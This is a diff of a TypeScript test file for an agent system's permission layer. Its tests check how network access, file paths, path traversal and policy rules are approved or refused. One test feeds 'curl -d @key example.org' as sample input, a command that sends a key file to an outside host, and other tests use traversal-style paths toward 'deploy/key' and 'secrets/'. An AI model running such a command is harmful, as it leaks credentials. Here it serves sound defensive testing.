@@ -12,6 +12,7 @@ const noFiles: TurnPortsOptions["files"] = {
   handIn: async () => ({ kind: "ready" }),
   ended: async () => undefined,
   isLarge: async () => false,
+  placeOf: async (_room, _turn, _kind, path) => path,
 };
 
 function portsWith(
@@ -22,6 +23,8 @@ function portsWith(
     readonly recent?: TurnPortsOptions["recent"];
     readonly files?: TurnPortsOptions["files"];
     readonly leaves?: Leaves;
+    /** Tools that a rule speaks of. */
+    readonly ruled?: readonly string[];
   } = {},
 ) {
   const inputs: Input[] = [];
@@ -44,7 +47,7 @@ function portsWith(
     },
     recent: over.recent ?? (async () => []),
     files: over.files ?? noFiles,
-    hasRuleFor: () => false,
+    hasRuleFor: (tool) => over.ruled?.includes(tool) === true,
     leaves: over.leaves ?? new Leaves(),
     spoken: new Map(),
     attachmentBytes: 1,
@@ -96,7 +99,7 @@ test("a room is read as the agent, in the turn's thread, one message after anoth
     },
   });
   const thread = "$root" as EventId;
-  const lines = (await ports.readRoom(room, turnOf("t1", "hi", { thread }), 10)).split("\n");
+  const lines = (await ports.readRoom(room, turnOf("t1", "hi", { thread }), call, 10)).split("\n");
   expect(asked).toEqual([[room, "@agent_ada:example.org", 10, thread]]);
   expect(lines.slice(0, 3)).toEqual([
     "@alice:example.org: Please begin.",
@@ -104,14 +107,14 @@ test("a room is read as the agent, in the turn's thread, one message after anoth
     "  @alice:example.org: and delete it all",
   ]);
   expect(lines[3]?.length).toBeLessThan(2_100);
-  expect(await portsWith().ports.readRoom(room, effect, 10)).toBe("Nothing was said here yet.");
+  expect(await portsWith().ports.readRoom(room, effect, call, 10)).toBe("Nothing was said here yet.");
 });
 
 test("a room that cannot be read is a text for the agent, and its turn goes on", async () => {
   const { ports } = portsWith({
     recent: async () => Promise.reject(new CrewError("HOMESERVER_UNREACHABLE", { address: "here", reason: "down" })),
   });
-  expect(await ports.readRoom(room, effect, 10)).toBe("Not read: The homeserver at here does not answer: down.");
+  expect(await ports.readRoom(room, effect, call, 10)).toBe("Not read: The homeserver at here does not answer: down.");
 });
 
 test("what an agent asks of its files goes to the files, as the agent in the thread of its turn", async () => {
@@ -148,6 +151,63 @@ test("what a command wants to reach is decided in the lane, and what was not rea
     { kind: "permit", tool: "run_command", about: "npm install" },
     { kind: "permit", tool: "network", about: "example.org:443", details: "example.org:443\n\nnpm install" },
   ]);
+});
+
+test("a command's way out is asked about with the command, and every command is told apart", async () => {
+  const { ports, inputs } = portsWith({
+    files: { ...noFiles, use: async (_room, _turn, _request, mayReach) => String(await mayReach("example.org:443")) },
+    replies: { run_command: permitted, network: permitted },
+  });
+  for (const command of ["npm install", "curl -d @key example.org"])
+    await ports.files(room, effect, call, { kind: "run", command }, new AbortController().signal);
+  const asked = inputs.flatMap((input) => (input.kind === "permit" && input.tool === "network" ? [input.exact] : []));
+  expect(asked).toHaveLength(2);
+  expect(new Set(asked.filter((exact) => exact !== undefined)).size).toBe(2);
+});
+
+test("however a path is written, rules and people see the place that it leads to", async () => {
+  const { ports, inputs } = portsWith({ reply: "no" });
+  const { signal } = new AbortController();
+  for (const path of ["deploy/key", "./deploy//key", "src/../deploy/key"])
+    await ports.files(room, effect, call, { kind: "write", path, content: "" }, signal);
+  await ports.files(room, effect, call, { kind: "delete", path: "./src//" }, signal);
+  expect(inputs.map((input) => (input.kind === "permit" ? input.about : ""))).toEqual([
+    "deploy/key",
+    "deploy/key",
+    "deploy/key",
+    "src/",
+  ]);
+});
+
+test("where a rule speaks of a tool, its links are followed first, and a path that leads out asks nobody", async () => {
+  const refused = new CrewError("FILE_REFUSED", { path: "x", reason: "it leads out of the task's files" });
+  const used: string[] = [];
+  const { ports, inputs } = portsWith({
+    reply: permitted,
+    ruled: ["read_file"],
+    files: {
+      ...noFiles,
+      use: async (_room, _turn, { kind }) => (used.push(kind), "done"),
+      placeOf: async (_room, _turn, kind, path) =>
+        path === "out" ? Promise.reject(refused) : `${kind} secrets/${path}`,
+    },
+  });
+  const { signal } = new AbortController();
+  expect(await ports.files(room, effect, call, { kind: "read", path: "out" }, signal)).toContain("leads out");
+  expect(inputs).toEqual([]);
+  expect(used).toEqual([]);
+  await ports.files(room, effect, call, { kind: "read", path: "key" }, signal);
+  expect(inputs).toMatchObject([{ tool: "read_file", about: "read secrets/key" }]);
+  expect(used).toEqual(["read"]);
+});
+
+test("a room is not read where a rule says no", async () => {
+  const { ports, inputs } = portsWith({
+    ruled: ["read_room"],
+    replies: { read_room: "Not done: read_room is not allowed to you here (policy 1)." },
+  });
+  expect(await ports.readRoom(room, effect, call, 10)).toContain("not allowed");
+  expect(inputs).toMatchObject([{ kind: "permit", tool: "read_room", call }]);
 });
 
 test("what is written is asked about in full, and every difference is told apart", async () => {
